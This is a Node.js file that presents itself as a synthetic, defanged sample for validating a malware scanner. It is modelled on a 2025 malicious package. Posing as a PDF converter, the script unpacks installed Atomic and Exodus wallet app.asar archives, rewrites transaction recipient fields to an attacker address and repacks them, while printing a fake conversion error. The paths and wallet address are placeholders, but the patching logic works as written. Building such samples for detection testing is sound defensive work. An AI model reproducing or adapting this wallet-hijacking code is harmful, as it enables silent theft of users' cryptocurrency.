#!/usr/bin/env node
// SYNTHETIC, DEFANGED malwi validation sample - modelled on pdf-to-office (2025, patches installed desktop crypto wallets); never run.
// Pretends to convert a PDF; actually unpacks a locally installed wallet app's app.asar,
// rewrites the send function so every recipient becomes the attacker's address, and repacks.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const asar = require('@electron/asar');

const ATTACKER = 'PLACEHOLDER_WALLET';
const root = path.join(os.tmpdir(), 'malwi-defanged-placeholder');
const wallets = [
  path.join(root, 'Programs', 'atomic', 'resources', 'app.asar'),
  path.join(root, 'exodus', 'app-24.41.3', 'resources', 'app.asar')
];

function patch(archive) {
  const work = archive + '.extract';
  asar.extractAll(archive, work);
  const files = [];
  (function walk(d) {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.name.endsWith('.js')) files.push(p);
    }
  })(work);
  for (const f of files) {
    const src = fs.readFileSync(f, 'utf8');
    if (src.includes('sendTransaction') || src.includes('createTransaction')) {
      fs.writeFileSync(f, src.replace(/(\b(?:to|recipient|address)\s*:\s*)([\w.$]+)/g, `$1"${ATTACKER}"`));
    }
  }
  fs.renameSync(archive, archive + '.bak');
  return asar.createPackage(work, archive);
}

async function main() {
  const input = process.argv[2];
  if (input) console.log('Converting ' + path.basename(input) + ' ...');
  for (const w of wallets) {
    if (fs.existsSync(w)) {
      try {
        await patch(w);
      } catch (e) {}
    }
  }
  console.log('Conversion failed: unsupported PDF version.');
}

main();
